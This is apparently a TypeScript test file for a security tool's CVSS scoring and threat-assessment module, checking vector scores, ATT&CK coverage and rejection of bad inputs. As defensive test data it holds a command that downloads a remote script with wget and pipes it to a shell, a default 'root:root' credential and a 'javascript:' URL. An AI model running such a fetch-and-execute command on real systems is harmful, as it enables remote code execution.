import { CerberusError } from '@cerberusmesh/contracts';
import { describe, expect, it } from 'vitest';
import { loadTechniqueTable } from '../../detection/attack-mapper/technique-table.ts';
import { createCvssAssessor, scoreOfVector } from './cvss.ts';
import { readCvssRules } from './cvss-rules.ts';
import { createTechniqueGravities } from './technique-gravities.ts';

const rules = readCvssRules();
const assessor = createCvssAssessor(rules);

describe('CVSS scores', () => {
  it.each([
    // Examples of the standards' own documents (first.org/cvss/v3.1/examples and v4.0/examples).
    ['CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H', 10, 'critical'],
    ['CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:L/I:L/A:N', 6.4, 'medium'],
    ['CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', 7.5, 'high'],
    ['CVSS:3.1/AV:P/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:N', 0, 'none'],
    ['CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N', 8.7, 'high'],
    ['CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:H/SI:H/SA:H', 10, 'critical'],
  ])('of %s is %d', (vector, score, severity) => {
    expect(scoreOfVector(vector)).toEqual({ vector, score, severity });
  });

  it.each(['', 'AV:N', 'CVSS:3.1/AV:N', 'CVSS:3.1/AV:X/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', 'CVSS:4.0/AV:N/AC:L'])(
    'are refused to %j',
    (vector) => {
      expect(() => scoreOfVector(vector)).toThrow(CerberusError);
    },
  );
});

describe('the rules of CVSS', () => {
  it('each take their own example, with vectors that are whole', () => {
    for (const rule of rules)
      expect([rule.id, assessor.assess(rule.type, rule.example).rule]).toEqual([rule.id, rule.id]);
  });

  it('cover every technique of ATT&CK', () => {
    for (const id of loadTechniqueTable().keys()) expect(assessor.assess('technique', id).v40.score).toBeGreaterThan(0);
  });
});

describe('an assessment', () => {
  it('says what is exploited, how grave it is and what to do', () => {
    expect(assessor.assess('credential', 'root:root')).toEqual({
      type: 'credential',
      value: 'root:root',
      rule: 'trivial-administrator',
      weakness: 'An administrator with a password that everybody tries first (CWE-521, CWE-1392).',
      remedy: 'Change it where it is used, and permit keys only.',
      v31: { vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', score: 9.8, severity: 'critical' },
      v40: {
        vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N',
        score: 9.3,
        severity: 'critical',
      },
    });
  });

  it('of a command is that of its gravest technique', () => {
    const { rule, technique } = assessor.assess('command', 'uname -a; wget http://198.51.100.7/a.sh -O- | sh');
    expect([rule, technique?.id]).toEqual(['execution', 'T1059.004']);
  });

  it.each([
    ['technique', 'T9999'],
    ['technique', 'constructor'],
    ['command', 'true'],
    ['credential', 'no colon'],
    ['url', 'javascript:alert(1)'],
    ['ip', '300.1.1.1'],
    ['domain', 'not a name'],
    ['file', 'ABC'],
    ['public-key', 'hello'],
    ['ip', ''],
  ] as const)('is refused to %s %j', (type, value) => {
    expect(() => assessor.assess(type, value)).toThrow(CerberusError);
  });
});

describe('the gravity of techniques', () => {
  it('is that of the rules, worked out once, and nothing where no rule covers it', () => {
    let opened = 0;
    const gravityOf = createTechniqueGravities(() => {
      opened += 1;
      return createCvssAssessor();
    });
    const expected = createCvssAssessor().assess('technique', 'T1486').v31;
    expect([gravityOf('T1486')?.v31, gravityOf('T0831'), gravityOf('T1486')?.v31]).toEqual([
      expected,
      undefined,
      expected,
    ]);
    expect(opened).toBe(1);
  });
});
